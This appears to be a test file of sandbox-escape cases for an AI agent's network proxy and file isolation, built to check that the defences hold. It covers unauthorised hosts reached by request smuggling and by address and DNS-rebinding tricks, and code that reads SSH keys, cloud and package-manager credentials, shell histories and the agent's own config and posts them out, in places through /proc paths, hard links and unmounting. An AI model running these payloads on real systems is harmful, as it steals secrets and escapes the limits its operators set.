## other-host-by-connect: a host that nobody granted, by CONNECT
## sign: heard at other.example
tunnel("other.example:80")

## other-host-by-request: the same by a plain request
## sign: heard at other.example
post(TOKEN, "other.example")

## other-host-by-socks: the same by SOCKS5 with a name
## sign: heard at other.example
socks(3, "other.example", 80)

## other-host-in-userinfo: an address that begins like the granted host
## sign: heard at other.example
post(TOKEN, "granted.example:80@other.example")

## other-host-as-second-request: a second request on a connection that was granted
## sign: heard at other.example
stream, more = proxy()
stream.sendall(f"GET http://granted.example/ HTTP/1.1\r\nHost: granted.example\r\n{more}\r\n".encode())
print(stream.recv(4096))
tell(stream, f"GET http://other.example/{TOKEN} HTTP/1.1\r\nHost: other.example\r\n{more}\r\n".encode())

## other-host-in-one-piece: two requests in one piece
## sign: heard at other.example
stream, more = proxy()
first = f"GET http://granted.example/ HTTP/1.1\r\nHost: granted.example\r\n{more}\r\n"
print(tell(stream, (first + f"GET http://other.example/{TOKEN} HTTP/1.1\r\nHost: other.example\r\n{more}\r\n").encode()))

## other-host-behind-two-lengths: a request hidden behind two lengths that disagree
## sign: heard at other.example
stream, more = proxy()
hidden = f"GET http://other.example/{TOKEN} HTTP/1.1\r\nHost: other.example\r\n{more}\r\n"
head = f"POST http://granted.example/ HTTP/1.1\r\nHost: granted.example\r\n{more}"
print(tell(stream, f"{head}Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}".encode()))

## other-host-behind-chunks: a request hidden behind an end of chunks
## sign: heard at other.example
stream, more = proxy()
hidden = f"GET http://other.example/{TOKEN} HTTP/1.1\r\nHost: other.example\r\n{more}\r\n"
head = f"POST http://granted.example/ HTTP/1.1\r\nHost: granted.example\r\n{more}"
print(tell(stream, f"{head}Content-Length: {5 + len(hidden)}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}".encode()))

## proxy-loopback-number: the loopback of the user through the proxy
## sign: heard
tunnel(f"127.0.0.1:{PORT}")

## proxy-loopback-name: localhost through the proxy
## sign: heard
tunnel(f"localhost:{PORT}")

## proxy-loopback-decimal: the loopback as one number
## sign: heard
tunnel(f"2130706433:{PORT}")

## proxy-loopback-hex: the loopback in hex
## sign: heard
tunnel(f"0x7f000001:{PORT}")

## proxy-loopback-octal: the loopback in octal
## sign: heard
tunnel(f"0177.0.0.1:{PORT}")

## proxy-loopback-short: the loopback in short
## sign: heard
tunnel(f"127.1:{PORT}")

## proxy-any-address: the loopback by 0.0.0.0
## sign: heard
tunnel(f"0.0.0.0:{PORT}")

## proxy-loopback6: the loopback by ::1
## sign: heard
## needs: ipv6
tunnel(f"[::1]:{PORT}")

## proxy-loopback-mapped: the loopback by IPv4 in IPv6
## sign: heard
tunnel(f"[::ffff:127.0.0.1]:{PORT}")

## proxy-socks-address: the loopback by SOCKS5 with an address
## sign: heard
socks(1, "127.0.0.1", PORT)

## proxy-socks-address6: the loopback by SOCKS5 with a mapped address
## sign: heard
socks(4, "::ffff:127.0.0.1", PORT)

## proxy-machine: the machine's own address through the proxy
## sign: heard
tunnel(f"{ADDRESS}:{PORT}")

## proxy-name-of-loopback: a name of the attacker that means the loopback
## sign: heard
tunnel(f"rebind.example:{PORT}")

## proxy-name-of-both: a name that means a public address and the loopback
## sign: heard
tunnel(f"mixed.example:{PORT}")

## proxy-model-by-number: the model server through the proxy
## sign: heard
tunnel(f"127.0.0.1:{MODEL}")

## any-granted-host-works: CONTROL any host, where all were granted
## sign: heard at other.example
## session: any
post(TOKEN, "other.example")

## any-model-by-number: the model server, where all hosts were granted
## sign: heard
## session: any
tunnel(f"127.0.0.1:{MODEL}")

## any-model-by-request: the model server by a plain request, where all hosts were granted
## sign: heard
## session: any
stream, more = proxy()
tell(stream, f"GET http://127.0.0.1:{MODEL}/{TOKEN} HTTP/1.1\r\nHost: x\r\n{more}Connection: close\r\n\r\n".encode())

## any-model-by-name: the model server by a name of the attacker, where all hosts were granted
## sign: heard
## session: any
tunnel(f"rebind.example:{MODEL}")

## any-model-by-localhost: the model server by localhost, where all hosts were granted
## sign: heard
## session: any
tunnel(f"localhost:{MODEL}")

## any-other-by-decimal: another program by one number, where all hosts were granted
## sign: heard
## session: any
tunnel(f"2130706433:{PORT}")

## direct-other-by-number: another program without the company's proxy, where all hosts were granted
## sign: heard
## session: direct
tunnel(f"127.0.0.1:{PORT}")

## direct-model-by-name: the model server by a name that is looked up here
## sign: heard
## session: direct
tunnel(f"rebind.example:{MODEL}")

## direct-other-by-name: another program by a name that is looked up here
## sign: heard
## session: direct
tunnel(f"rebind.example:{PORT}")

## direct-both: a name that means a public address and the loopback, looked up here
## sign: heard
## session: direct
tunnel(f"mixed.example:{PORT}")

## direct-machine: the machine's own address, where all hosts were granted
## sign: heard
## session: direct
tunnel(f"{ADDRESS}:{PORT}")

## direct-socks-hex: SOCKS5 with a name that is a number in hex
## sign: heard
## session: direct
socks(3, "0x7f000001", PORT)

## secret-keys: keys for ssh and gpg, sent to a granted host
## sign: sent
for name in [".ssh/id_ed25519", ".gnupg/private-keys-v1.d/key"]:
    if os.path.exists(f"{HOME}/{name}"):
        post(open(f"{HOME}/{name}").read())

## secret-managers: credentials of package managers, sent to a granted host
## sign: sent
for name in [".npmrc", ".netrc", ".pypirc", ".cargo/credentials.toml", ".git-credentials", ".m2/settings.xml"]:
    try:
        post(open(f"{HOME}/{name}").read())
    except OSError as error:
        print(name, error)

## secret-clouds: credentials of clouds and forges, sent to a granted host
## sign: sent
for name in [".aws/credentials", ".config/gh/hosts.yml", ".docker/config.json", ".kube/config", ".config/gcloud/access_tokens.db"]:
    try:
        post(open(f"{HOME}/{name}").read())
    except OSError as error:
        print(name, error)

## secret-of-project: the .env of the project, sent to a granted host
## sign: sent
post(open(f"{PROJECT}/.env").read())

## secret-of-history: what shells remember, sent to a granted host
## sign: sent
for name in [".bash_history", ".zsh_history", ".python_history"]:
    try:
        post(open(f"{HOME}/{name}").read())
    except OSError as error:
        print(name, error)

## secret-of-agent: the agent's own config and sessions, sent to a granted host
## sign: sent
for top in [f"{HOME}/.config/agent", f"{HOME}/.local/state/agent"]:
    for folder, _, names in os.walk(top):
        for name in names:
            try:
                post(open(os.path.join(folder, name), "rb").read())
            except OSError as error:
                print(name, error)

## secret-through-root: a key by the way through /proc
## sign: sent
post(open("/proc/self/root" + f"{HOME}/.ssh/id_ed25519").read())

## secret-through-neighbour: a key by the root of a process outside
## sign: sent
post(open(f"/proc/{NEIGHBOUR}/root" + f"{HOME}/.ssh/id_ed25519").read())

## secret-by-link: a key by a second name in the project
## sign: sent
os.link(f"{HOME}/.ssh/id_ed25519", f"{HERE}/linked")
post(open(f"{HERE}/linked").read())

## secret-by-rename: a key that is moved into the project, folder and all
## sign: sent
os.rename(f"{HOME}/.ssh2", f"{HERE}/moved")
post(open(f"{HERE}/moved/id_ed25519").read())

## secret-in-variable: the key of a model server in the environment
## sign: said
if os.environ.get("OPENAI_API_KEY", "").startswith("SECRET"):
    got()

## secret-in-neighbours-variable: a variable of a process outside
## sign: said
if b"NEIGHBOUR_SECRET=SECRET" in open(f"/proc/{NEIGHBOUR}/environ", "rb").read():
    got()

## secret-by-steps: a key by steps up from the folder of the command
## sign: sent
post(open("../" * 2 + ".ssh/id_ed25519").read())

## secret-by-handed-folder: a key by a folder that was left open
## sign: sent
post(open(os.open(HOME.lstrip("/") + "/.ssh/id_ed25519", os.O_RDONLY, dir_fd=8)).read())

## secret-below-cover: a key, once what covers it is gone
## sign: sent
for _ in range(8):
    try:
        words = open(f"{HOME}/.ssh/id_ed25519").read()
    except OSError:
        words = ""
    if words:
        post(words)
        break
    for place in [f"{HOME}/.ssh/id_ed25519", f"{HOME}/.ssh", HOME]:
        libc.umount2(place.encode(), 2)

## other-port-of-granted-host: a port of the granted host that nobody granted
## sign: heard at granted.example:22
tunnel("granted.example:22")

## name-that-ends-alike: a name that ends like the granted one
## sign: heard at notgranted.example
tunnel("notgranted.example:80")

## name-that-begins-alike: a name that begins like the granted one
## sign: heard at granted.example.other.example
tunnel("granted.example.other.example:80")

## host-is-suffix: a name that would stand for all that end so, where all hosts were granted
## sign: heard at .example
## session: any
tunnel(".example:80")

## host-is-any: a name that would stand for every host, where all hosts were granted
## sign: heard at *
## session: any
tunnel("*:80")

## host-is-list: two names in one, where all hosts were granted
## sign: heard at granted.example,other.example
## session: any
tunnel("granted.example,other.example:80")
